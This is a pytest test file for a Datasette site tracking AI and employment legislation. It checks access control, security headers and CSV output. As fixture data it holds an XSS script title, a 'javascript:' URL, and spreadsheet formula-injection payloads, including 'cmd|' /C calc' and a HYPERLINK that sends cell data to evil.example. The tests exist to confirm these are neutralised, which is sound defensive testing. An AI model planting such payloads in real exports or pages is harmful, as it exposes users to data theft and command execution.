"""The Datasette site with the real metadata.yml: both faces, through Datasette's own test client.

``build_site_db`` writes the populated database that the page, feed and
canned-query tests share: bills and meetings stored through the real
Store, with dates relative to today so that "this week" and "upcoming"
always have something to find.
"""

from __future__ import annotations

import socket
import subprocess
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

import db
from ailabor.positions import set_position
from ailabor.records import Action, BillItem, MeetingItem, Sponsor, Version
from ailabor.relevance import load_taxonomy
from ailabor.site.faces import (
    PASSWORD_HASH_ENV,
    Refused,
    check_exposure,
    datasette_command,
    make_datasette,
    metadata_for,
)
from ailabor.site.publish import publish
from ailabor.store.writer import Store, save_topics
from tests.conftest import FIXTURES, crawl

TODAY = datetime.now(UTC).date()
XSS_TITLE = "<script>alert(1)</script> Artificial intelligence in employment decisions"
# A phrase found only in the summary of CA AB 2602, for the search test.
SUMMARY_PHRASE = "unconscionable replica clause"


def ago(days: int) -> str:
    return (TODAY - timedelta(days=days)).isoformat()


def ahead(days: int) -> str:
    return (TODAY + timedelta(days=days)).isoformat()


def _classified(item):
    taxonomy = load_taxonomy()
    if isinstance(item, BillItem):
        item.relevance = taxonomy.classify(item.title, item.summary, item.subjects)
    else:
        item.relevance = taxonomy.classify(item.title, item.abstract)
    return item


def _replica_bill(passed: bool) -> BillItem:
    actions = [Action(ago(60), "Introduced. Read first time.", "lower", ["introduction"]),
               Action(ago(50), "Referred to Com. on L. & E.", "lower", ["referral-committee"])]
    if passed:
        actions.append(Action(ago(3), "Read third time. Passed. Ordered to the Senate.", "lower", ["passage"]))
    return BillItem(
        jurisdiction="ca", session="20232024", identifier="AB 2602", source="test", chamber="lower",
        title="Contracts against public policy: personal or professional services: digital replicas",
        summary="Makes a provision in an agreement for the performance of personal services unenforceable when "
                "it allows creation of a digital replica of the performer's voice or likeness, an "
                f"{SUMMARY_PHRASE} in the words of its author.",
        url="https://leginfo.legislature.ca.gov/faces/billNavClient.xhtml?bill_id=202320240AB2602",
        actions=actions,
        sponsors=[Sponsor("Ash Kalra", party="Democratic", state="ca", district="25"),
                  Sponsor("Lori Wilson", role="cosponsor")],
        versions=[Version("https://leginfo.legislature.ca.gov/ab2602-introduced.pdf", "Introduced", ago(60))],
    )


def site_items() -> list[BillItem | MeetingItem]:
    """Every kind of row the site shows, one or two of each."""
    return [
        _replica_bill(passed=False),
        BillItem(jurisdiction="ny", session="2025", identifier="S 8420", source="test", chamber="upper",
                 title="Regulates the use of automated employment decision tools in hiring",
                 summary="Requires employers to audit artificial intelligence tools that screen job applicants.",
                 actions=[Action(ago(5), "Referred to Labor", "upper", ["introduction", "referral-committee"])]),
        BillItem(jurisdiction="il", session="103rd", identifier="HB 3773", source="test", chamber="lower",
                 title="Human Rights Act: artificial intelligence in employment decisions",
                 summary="Prohibits employers from using artificial intelligence that discriminates against "
                         "employees in hiring, promotion or discharge.",
                 actions=[Action(ago(400), "Filed with the Clerk", "lower", ["introduction"]),
                          Action(ago(300), "Third Reading - Passed", "lower", ["passage"]),
                          Action(ago(250), "Third Reading - Passed", "upper", ["passage"]),
                          Action(ago(200), "Public Act 103-0804", "executive", ["became-law"])]),
        BillItem(jurisdiction="us", session="119", identifier="HR 1234", source="test", chamber="lower",
                 title="Stop Spying Bosses Act",
                 summary="Limits workplace surveillance: employers' electronic monitoring of workers and "
                         "automated decision systems that discipline them.",
                 actions=[Action(ago(20), "Introduced in House", "lower", ["introduction"]),
                          Action(ago(2), "Referred to the Committee on Education and the Workforce", "lower",
                                 ["referral-committee"])]),
        BillItem(jurisdiction="ca", session="20232024", identifier="SB 1047", source="test", chamber="upper",
                 title="Artificial intelligence models: digital replicas of workers in generative AI",
                 summary="Requires developers of generative AI models to protect employees and performers.",
                 actions=[Action(ago(300), "Introduced", "upper", ["introduction"]),
                          Action(ago(200), "Passed Senate", "upper", ["passage"]),
                          Action(ago(150), "Passed Assembly", "lower", ["passage"]),
                          Action(ago(120), "Vetoed by Governor", "executive", ["executive-veto"])]),
        BillItem(jurisdiction="tx", session="89R", identifier="HB 666", source="test", chamber="lower",
                 title=XSS_TITLE,
                 summary="Requires an employer to tell a worker when an automated decision tool is used.",
                 actions=[Action(ago(10), "Filed", "lower", ["introduction"])]),
        BillItem(jurisdiction="ca", session="20232024", identifier="SB 1", source="test", chamber="upper",
                 title="Artificial turf on school athletic fields", summary="Studies the heat of artificial turf.",
                 actions=[Action(ago(4), "Referred to Com. on ED.", "upper", ["referral-committee"])]),
        MeetingItem(id="fr-2099-00001", jurisdiction="us", kind="meeting", source="test",
                    agency="Copyright Office", title="Public meeting on artificial intelligence and performers",
                    abstract="A public meeting on digital replicas of performers and AI trained on their work.",
                    start=f"{ahead(10)}T13:00", location="Washington, DC",
                    document_url="https://www.federalregister.gov/d/2099-00001", published_date=ago(1)),
        MeetingItem(id="fr-2099-00002", jurisdiction="us", kind="request_for_comment", source="test",
                    agency="Equal Employment Opportunity Commission",
                    title="Request for comment: artificial intelligence in hiring",
                    abstract="The Commission asks how employers use artificial intelligence to screen job applicants.",
                    comments_close_on=ahead(20), docket_id="EEOC-2099-0001", published_date=ago(6)),
        MeetingItem(id="ocd-event-ca-1", jurisdiction="ca", kind="hearing", source="test",
                    agency="Assembly Committee on Privacy", title="Hearing: digital replicas of performers",
                    abstract="The committee hears bills on AI digital replicas of performers' voices and likeness.",
                    start=f"{ahead(5)}T09:00:00-07:00", location="State Capitol, Room 437",
                    agenda_url="javascript:alert(2)", bill_ids=["ca-20232024-ab2602"]),
        MeetingItem(id="fr-2000-00009", jurisdiction="us", kind="meeting", source="test",
                    agency="Department of Labor", title="Past meeting on artificial intelligence and workers",
                    abstract="A meeting on artificial intelligence and workers' jobs.", start=ago(30)),
    ]


def build_site_db(path: Path) -> Path:
    """The populated working database; CA AB 2602 is saved twice so that it has a status change."""
    database = db.connect(path, create=True)
    save_topics(database, load_taxonomy())
    store = Store(database)
    items = [_classified(item) for item in site_items()]
    # Bills first, so that the hearing finds the bill on its agenda already stored.
    store.save([item for item in items if isinstance(item, BillItem)])
    store.save([item for item in items if isinstance(item, MeetingItem)])
    store.save([_classified(_replica_bill(passed=True))])
    set_position(database, "ca-20232024-ab2602", "support", "high", "Protects performers' voices.")
    set_position(database, "us-119-hr1234", "oppose", "low")
    set_position(database, "il-103rd-hb3773", "watch", "medium")
    database.close()
    return path


@contextmanager
def served(database: Path, *, public: bool) -> Iterator[str]:
    """A face as `ailabor serve` runs it (a real datasette process) on a free loopback port; yields its URL."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    process = subprocess.Popen(datasette_command(database, public=public, port=port),
                               stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    url = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 30
    while True:
        try:
            urllib.request.urlopen(f"{url}/-/versions.json", timeout=1).close()
            break
        except urllib.error.HTTPError:
            break  # answering at all (a 401 behind the password) is up
        except OSError:
            if process.poll() is not None or time.monotonic() > deadline:
                process.kill()
                pytest.fail(f"datasette did not start: {process.stderr.read()}")
            time.sleep(0.1)
    try:
        yield url
    finally:
        process.terminate()
        process.wait(timeout=10)


@pytest.fixture(scope="module")
def site_db(tmp_path_factory) -> Path:
    return build_site_db(tmp_path_factory.mktemp("site") / "tracker.db")


@pytest.fixture(scope="module")
def site_snapshot(site_db: Path) -> Path:
    return publish(site_db, site_db.parent / "public" / "tracker.db")


@pytest.fixture(scope="module")
def crawled(tmp_path_factory):
    from ailabor.testing.replay import Cassette, ReplayServer

    path = tmp_path_factory.mktemp("site") / "tracker.db"
    server = ReplayServer(Cassette.load(FIXTURES / "federal_register" / "cassette.yml")).start()
    try:
        crawl("federal_register", server, path)
    finally:
        server.stop()
    return path


@pytest.mark.slow
async def test_director_face_serves_meetings_with_metadata(crawled):
    ds = make_datasette(crawled, public=False)
    response = await ds.client.get("/tracker/meetings.json?_shape=array&_sort=id")
    assert response.status_code == 200
    assert len(response.json()) == 6
    page = await ds.client.get("/tracker/meetings")
    assert "Agency meetings, hearings and notices" in page.text


@pytest.mark.slow
async def test_internal_tables_are_hidden(crawled):
    ds = make_datasette(crawled, public=False)
    tables = {t["name"]: t["hidden"] for t in (await ds.client.get("/tracker.json")).json()["tables"]}
    assert tables["crawl_errors"] and tables["_sqlite_migrations"]
    assert not tables["meetings"]


@pytest.mark.slow
async def test_public_face_serves_the_snapshot_and_refuses_arbitrary_sql(crawled):
    snapshot = publish(crawled)
    ds = make_datasette(snapshot, public=True)
    assert (await ds.client.get("/tracker/meetings.json")).status_code == 200
    assert (await ds.client.get("/tracker.json?sql=select+1")).status_code == 403
    assert (await ds.client.get("/tracker/meetings.json?_where=1=1")).status_code == 403


@pytest.mark.slow
async def test_director_face_accepts_sql(crawled):
    ds = make_datasette(crawled, public=False)
    response = await ds.client.get("/tracker.json?sql=select+count(*)+as+n+from+meetings&_shape=array")
    assert response.json() == [{"n": 6}]


@pytest.mark.slow
def test_public_command_line_serves_immutable_with_limits(crawled):
    command = datasette_command(crawled, public=True)
    assert command[command.index("-i") + 1] == str(crawled)
    settings = {command[i + 1]: command[i + 2] for i, arg in enumerate(command) if arg == "--setting"}
    assert settings["default_allow_sql"] == "off"
    assert int(settings["sql_time_limit_ms"]) <= 1000
    assert settings["suggest_facets"] == "off"


async def test_every_column_of_every_listed_table_is_described(site_db):
    ds = make_datasette(site_db, public=True)
    listed = [t for t in (await ds.client.get("/tracker.json")).json()["tables"] if not t["hidden"]]
    tables = ds.metadata("tables", database="tracker")
    for table in listed:
        meta = tables.get(table["name"], {})
        assert meta.get("title") and meta.get("description"), table["name"]
        undescribed = set(table["columns"]) - set(meta.get("columns") or {})
        assert not undescribed, f"{table['name']}: {sorted(undescribed)}"


async def test_public_face_still_gives_members_search_facets_and_questions(site_snapshot):
    ds = make_datasette(site_snapshot, public=True)
    found = await ds.client.get(f"/tracker/bills.json?_search={SUMMARY_PHRASE}&_shape=array")
    assert [row["id"] for row in found.json()] == ["ca-20232024-ab2602"]
    faceted = (await ds.client.get("/tracker/bills.json?relevant=1&_facet=status")).json()
    statuses = {item["value"] for item in faceted["facet_results"]["status"]["results"]}
    assert {"enacted", "vetoed", "passed_chamber"} <= statuses
    assert faceted["suggested_facets"] == []
    meetings = (await ds.client.get("/tracker/meetings.json?_search=performers&kind=hearing&_shape=array")).json()
    assert [row["id"] for row in meetings] == ["ocd-event-ca-1"]
    assert (await ds.client.get("/tracker/upcoming_meetings.json")).status_code == 200


async def test_public_face_refuses_internal_tables(site_snapshot):
    ds = make_datasette(site_snapshot, public=True)
    for table in ("digests", "crawl_errors", "overrides"):
        assert (await ds.client.get(f"/tracker/{table}.json")).status_code == 403
    director = make_datasette(site_snapshot, public=False)
    assert (await director.client.get("/tracker/digests.json")).status_code == 200


async def test_public_face_offers_no_login(site_snapshot):
    page = await make_datasette(site_snapshot, public=True).client.get("/")
    assert "/-/login" not in page.text


@pytest.mark.parametrize("host", ["0.0.0.0", "192.0.2.10", "::"])
def test_director_face_beyond_this_machine_needs_a_password(monkeypatch, site_db, host):
    monkeypatch.delenv(PASSWORD_HASH_ENV, raising=False)
    with pytest.raises(Refused, match=PASSWORD_HASH_ENV):
        datasette_command(site_db, public=False, host=host)
    check_exposure(public=True, host=host)
    monkeypatch.setenv(PASSWORD_HASH_ENV, "pbkdf2_sha256$480000$salt$hash")
    check_exposure(public=False, host=host)


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "::1"])
def test_director_face_on_loopback_needs_no_password(monkeypatch, host):
    monkeypatch.delenv(PASSWORD_HASH_ENV, raising=False)
    check_exposure(public=False, host=host)


def test_serve_on_all_interfaces_without_a_password_refuses_in_one_line(site_db):
    import os
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if k != PASSWORD_HASH_ENV}
    done = subprocess.run([sys.executable, "-m", "ailabor.cli", "serve", "--db", str(site_db), "--host", "0.0.0.0"],
                          env=env, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode != 0
    assert len(done.stderr.strip().splitlines()) == 1
    assert PASSWORD_HASH_ENV in done.stderr


async def test_director_face_behind_a_password_admits_only_the_director(monkeypatch, site_db):
    import base64

    from datasette_auth_passwords.utils import hash_password

    monkeypatch.setenv(PASSWORD_HASH_ENV, hash_password("correct horse"))
    ds = make_datasette(site_db, public=False)
    sql = "/tracker.json?sql=select+count(*)+as+n+from+bills&_shape=array"
    assert (await ds.client.get(sql)).status_code == 401
    assert (await ds.client.get("/tracker/bills.json")).status_code == 401

    def auth(password: str) -> dict[str, str]:
        return {"authorization": "Basic " + base64.b64encode(f"director:{password}".encode()).decode()}

    assert (await ds.client.get(sql, headers=auth("wrong"))).status_code == 401
    response = await ds.client.get(sql, headers=auth("correct horse"))
    assert response.status_code == 200 and response.json() == [{"n": 7}]


def test_metadata_file_names_the_password_variable_never_the_hash(monkeypatch, site_db):
    monkeypatch.setenv(PASSWORD_HASH_ENV, "pbkdf2_sha256$480000$salt$secret-hash")
    command = datasette_command(site_db, public=False)
    written = Path(command[command.index("-m", 3) + 1]).read_text()
    assert PASSWORD_HASH_ENV in written and "secret-hash" not in written


def test_topic_lists_in_descriptions_are_the_served_databases_topics(db_path):
    database = db.connect(db_path, create=True)
    taxonomy = load_taxonomy()
    save_topics(database, taxonomy)
    database["topics"].insert({"slug": "ai-in-casting", "name": "AI in casting", "description": "Casting by AI."})
    queries = metadata_for(db_path, public=True)["databases"]["tracker"]["queries"]
    listed = ", ".join([t.slug for t in taxonomy.topics] + ["ai-in-casting"])
    for name in ("bills_on_topic", "topic_feed"):
        assert f"{listed}." in queries[name]["description"]
    save_topics(database, taxonomy)
    queries = metadata_for(db_path, public=True)["databases"]["tracker"]["queries"]
    assert "ai-in-casting" not in queries["bills_on_topic"]["description"]


FORMULAS = {"ny-2025-s8420": '=HYPERLINK("http://evil.example/?"&A1,"Details")', "us-119-hr1234": "+cmd|' /C calc'!A0",
            "il-103rd-hb3773": "-2+3+cmd|' /C calc'!A0", "tx-89r-hb666": "@SUM(1+1)*cmd|' /C calc'!A0",
            "ca-20232024-sb1": "\t=1+1", "ca-20232024-sb1047": "\r=1+1\nand a second line"}


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory) -> Path:
    """The site's database with upstream titles that a spreadsheet would run as formulas."""
    import sqlite3

    path = build_site_db(tmp_path_factory.mktemp("formulas") / "tracker.db")
    with sqlite3.connect(path) as conn:
        conn.executemany("UPDATE bills SET title = ? WHERE id = ?", [(v, k) for k, v in FORMULAS.items()])
    return path


@pytest.mark.parametrize("query", ["/tracker/bills.csv?_col=title&_col=relevance_score",
                                   "/tracker/bills.csv?_col=title&_col=relevance_score&_stream=on&_dl=1",
                                   "/tracker/bills.csv?_col=title&_col=relevance_score&_size=1&_stream=on"])
@pytest.mark.review("public_face")
@pytest.mark.parametrize("public", [True, False])
async def test_csv_cells_a_spreadsheet_would_run_begin_with_a_quote(formula_db, query, public):
    import csv
    import io

    database = publish(formula_db, formula_db.parent / "public" / "tracker.db") if public else formula_db
    response = await make_datasette(database, public=public).client.get(query)
    assert response.status_code == 200
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.text, newline=""))}
    assert len(rows) == 7
    for bill_id, title in FORMULAS.items():
        assert rows[bill_id]["title"] == "'" + title
    assert rows["ca-20232024-ab2602"]["title"].startswith("Contracts against public policy")
    assert all(float(row["relevance_score"]) >= 0 for row in rows.values())


@pytest.mark.review("public_face")
async def test_a_query_csv_is_neutralised_too(formula_db):
    response = await make_datasette(formula_db, public=False).client.get(
        "/tracker.csv?sql=select+title,+-1+as+minus_one+from+bills+where+id='ny-2025-s8420'")
    assert response.text.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""Details"")",-1'


@pytest.mark.review("public_face")
@pytest.mark.parametrize("public", [True, False])
async def test_every_response_says_how_a_browser_may_use_it(site_snapshot, public):
    ds = make_datasette(site_snapshot, public=public)
    for path in ("/", "/tracker/bills", "/tracker/bills.json", "/tracker/bills.csv", "/static/site.css",
                 "/tracker/bills/ca-20232024-ab2602", "/no-such-page", "/tracker/new_bills"):
        headers = (await ds.client.get(path)).headers
        policy = headers["content-security-policy"]
        assert "frame-ancestors 'none'" in policy and "object-src 'none'" in policy, path
        scripts = policy.split("script-src")[1].split(";")[0]
        assert scripts.startswith(" 'self' 'sha256-") and "unsafe" not in scripts, path
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "DENY"
        assert headers.get_list("referrer-policy") in (["no-referrer"], ["strict-origin-when-cross-origin"]), path


@pytest.mark.review("public_face")
async def test_public_face_shows_no_file_paths_threads_or_debug_pages(site_snapshot):
    ds = make_datasette(site_snapshot, public=True)
    for path in ("/-/databases.json", "/-/databases", "/-/threads.json", "/-/threads", "/-/password-tool",
                 "/-/login", "/-/allow-debug", "/-/messages", "/-/patterns"):
        assert (await ds.client.get(path)).status_code == 404, path
    folder = str(site_snapshot.parent.parent)
    for path in ("/", "/-/metadata.json", "/-/settings.json", "/-/versions.json", "/-/plugins.json", "/tracker.json",
                 "/tracker/bills.json", "/-/actor.json", "/tracker/no-such-table", "/-/search?q=replica"):
        response = await ds.client.get(path)
        assert folder not in response.text and "site-packages" not in response.text, path
